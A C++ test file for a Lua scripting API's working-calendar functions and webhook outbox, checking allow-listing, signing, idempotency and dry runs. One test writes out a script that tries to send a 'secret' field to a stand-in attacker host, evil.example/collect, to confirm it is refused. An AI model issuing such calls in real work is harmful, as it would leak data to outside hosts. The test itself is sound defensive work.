// SPDX-License-Identifier: Apache-2.0
// The extension points of the `orbita` Lua API as the kernel provides them: the working
// calendar and webhooks through the outbox (allow-listed hosts only, nothing sent by a
// failed or dry run).
#include "jobs/job_runner.hpp"
#include "support/lua_helpers.hpp"
#include "support/test_server.hpp"
#include "support/webhook_receiver.hpp"

#include "storage/database.hpp"

#include <catch2/catch.hpp>

using nlohmann::json;
using orbita::kernel::lua::RunContext;
using orbita::test::lua_error;
using orbita::test::run_lua;
using orbita::test::TestServer;

namespace {

const std::string kSecret = "s3cret-signing-key-0123456789";
const std::string kUrlSecret = "url-signing-key-0123456789";

json webhook_config(const orbita::test::WebhookReceiver& hooks) {
    return {{"jobs", {{"workers", 0}}},
            {"outbox",
             {{"webhooks",
               {{"targets", {{"crm_sync", {{"url", hooks.url("/target")}, {"secret", kSecret}}}}},
                {"allowed_hosts", {"127.0.0.1:" + std::to_string(hooks.port()), "*.partner.example"}},
                {"url_secret", kUrlSecret}}}}}};
}

std::int64_t outbox_count(TestServer& s) {
    return s.kernel().database().read([](orbita::kernel::storage::Connection& c) {
        return *c.query_int(orbita::kernel::storage::SqlFragment("SELECT COUNT(*) FROM outbox"));
    });
}

}  // namespace

TEST_CASE("orbita.calendar computes on the working calendar administrators edit") {
    for (const auto& backend : orbita::test::test_backends()) {
        TestServer s(backend);
        SECTION(backend) {
            // Friday 14 March 2025 17:00 Moscow + 2 working hours: Monday 10:00 (07:00Z).
            auto r = run_lua(s, R"(
                local cal = orbita.calendar
                return {
                  monday = cal.add_working('2025-03-14T17:00:00+03:00', 2 * 3600),
                  next_start = cal.add_working('2025-03-15T23:00:00+03:00', 0),
                  friday = cal.is_working('2025-03-14T10:00:00+03:00'),
                  saturday = cal.is_working('2025-03-15T10:00:00+03:00'),
                  holiday = cal.is_working('2025-05-02T10:00:00+03:00'),
                  days = cal.working_days_between('2025-04-30T12:00:00+03:00', '2025-05-12T12:00:00+03:00'),
                }
            )");
            INFO(r.to_json().dump());
            REQUIRE(r.ok);
            CHECK(r.value == json{{"monday", "2025-03-17T07:00:00.000Z"}, {"next_start", "2025-03-17T06:00:00.000Z"},
                                  {"friday", true}, {"saturday", false}, {"holiday", false}, {"days", 4}});

            // An administrator declares Monday 17 March a holiday: scripts count it at once.
            auto admin = s.client();
            REQUIRE(admin.put("/api/v1/admin/calendar/days/2025-03-17", json{{"kind", "holiday"}}).status == 200);
            CHECK(run_lua(s, "return orbita.calendar.add_working('2025-03-14T17:00:00+03:00', 7200)").value ==
                  "2025-03-18T07:00:00.000Z");

            auto bad_time = run_lua(s, "\nreturn orbita.calendar.is_working('tomorrow')");
            CHECK(lua_error(bad_time) ==
                  "orbita.calendar.is_working: argument #1 must be an ISO 8601 date-time with a zone, such as orbita.now()");
            CHECK(bad_time.error->line == 2);
            CHECK(lua_error(run_lua(s, "return orbita.calendar.add_working(orbita.now(), -5)")) ==
                  "orbita.calendar.add_working: argument #2 must be a duration in seconds from 0 to ten years");
            CHECK(lua_error(run_lua(s, "return orbita.calendar.add_working(orbita.now(), 'PT1H')")) ==
                  "orbita.calendar.add_working: argument #2 must be a duration in seconds (0 or more)");
            CHECK(lua_error(run_lua(s, "return orbita.calendar.working_days_between(orbita.now())")) ==
                  "orbita.calendar.working_days_between: argument #2 must be an ISO 8601 date-time with a zone, such as orbita.now()");
        }
    }
}

TEST_CASE("orbita.outbox.webhook writes an outbox message in the run's transaction, to allow-listed hosts only") {
    for (const auto& backend : orbita::test::test_backends()) {
        SECTION(backend) {
            orbita::test::WebhookReceiver hooks(kUrlSecret);
            TestServer s(backend, webhook_config(hooks));
            auto& runner = s.kernel().job_runner();
            const auto url = hooks.url("/deal?src=lua");

            auto sent = run_lua(s, "return orbita.outbox.webhook('" + url + "', {deal = 7, stage = 'won'}, {key = 'deal-7-won'})");
            INFO(sent.to_json().dump());
            REQUIRE(sent.ok);
            REQUIRE(sent.effects.size() == 1);
            CHECK(sent.effects[0] == json{{"kind", "outbox.webhook"}, {"url", url}, {"body", {{"deal", 7}, {"stage", "won"}}},
                                          {"idempotency_key", "deal-7-won"}});
            CHECK(hooks.received().empty());  // only the outbox row so far
            CHECK(runner.run_due() == 1);
            auto received = hooks.received();
            REQUIRE(received.size() == 1);
            CHECK(received[0].path == "/deal?src=lua");
            CHECK(received[0].signature_valid);  // signed with outbox.webhooks.url_secret
            CHECK(json::parse(received[0].body) == json{{"deal", 7}, {"stage", "won"}});
            CHECK(received[0].headers["idempotency-key"] == "deal-7-won");
            auto message = s.client().get("/api/v1/admin/outbox/" + std::to_string(sent.value.get<std::int64_t>())).json();
            CHECK(message["state"] == "sent");
            CHECK(message["payload"]["url"] == url);

            // A configured target by name; the same key again is the same message.
            auto target = run_lua(s, "orbita.outbox.webhook('crm_sync', 'ping', {key = 'ping-1'})\n"
                                     "return orbita.outbox.webhook('crm_sync', 'ping', {key = 'ping-1'})");
            REQUIRE(target.ok);
            CHECK(target.effects[0]["target"] == "crm_sync");
            CHECK(runner.run_due() == 1);
            CHECK(hooks.received().size() == 2);

            // Hosts outside the allow-list are a script error with the line; nothing is written.
            const auto before = outbox_count(s);
            auto refused = run_lua(s, "local body = {secret = 'data'}\n"
                                      "orbita.outbox.webhook('https://evil.example/collect', body)");
            CHECK(lua_error(refused) == "orbita.outbox.webhook: host evil.example is not allow-listed for webhooks "
                                        "(outbox.webhooks.allowed_hosts)");
            CHECK(refused.error->line == 2);
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('http://127.0.0.1:1/x', 1)")) ==
                  "orbita.outbox.webhook: host 127.0.0.1:1 is not allow-listed for webhooks (outbox.webhooks.allowed_hosts)");
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('https://partner.example/x', 1)")).find("not allow-listed") !=
                  std::string::npos);  // "*.partner.example" covers subdomains only
            CHECK(run_lua(s, "return orbita.outbox.webhook('https://api.partner.example/x', 1)", "admin",
                          [](RunContext& c) { c.dry_run = true; }).ok);
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('ftp://127.0.0.1/x', 1)")) ==
                  "orbita.outbox.webhook: 'ftp://127.0.0.1/x' is not an http:// or https:// URL");
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('nowhere', 1)")) ==
                  "orbita.outbox.webhook: no webhook target 'nowhere' is configured");
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('crm_sync')")) ==
                  "orbita.outbox.webhook: argument #2 must be the body to send (a table, string, number or boolean)");
            CHECK(lua_error(run_lua(s, "orbita.outbox.webhook('crm_sync', 1, {idempotency = 'x'})")) ==
                  "orbita.outbox.webhook: unknown option 'idempotency' (options: key)");
            CHECK(outbox_count(s) == before);

            // A dry run and a failing run report the effect and send nothing.
            const auto kept = outbox_count(s);
            auto dry = run_lua(s, "orbita.outbox.webhook('" + url + "', {dry = true})", "admin",
                               [](RunContext& c) { c.dry_run = true; });
            REQUIRE(dry.ok);
            CHECK_FALSE(dry.committed);
            CHECK(dry.effects[0]["kind"] == "outbox.webhook");
            CHECK(dry.effects[0]["body"] == json{{"dry", true}});
            auto failed = run_lua(s, "orbita.outbox.webhook('" + url + "', {failed = true})\nerror('later failure')");
            CHECK(lua_error(failed) == "later failure");
            CHECK(outbox_count(s) == kept);
            runner.run_due();
            for (const auto& r : hooks.received()) CHECK(r.body.find("dry") == std::string::npos);
            for (const auto& r : hooks.received()) CHECK(r.body.find("failed") == std::string::npos);
        }
    }
}
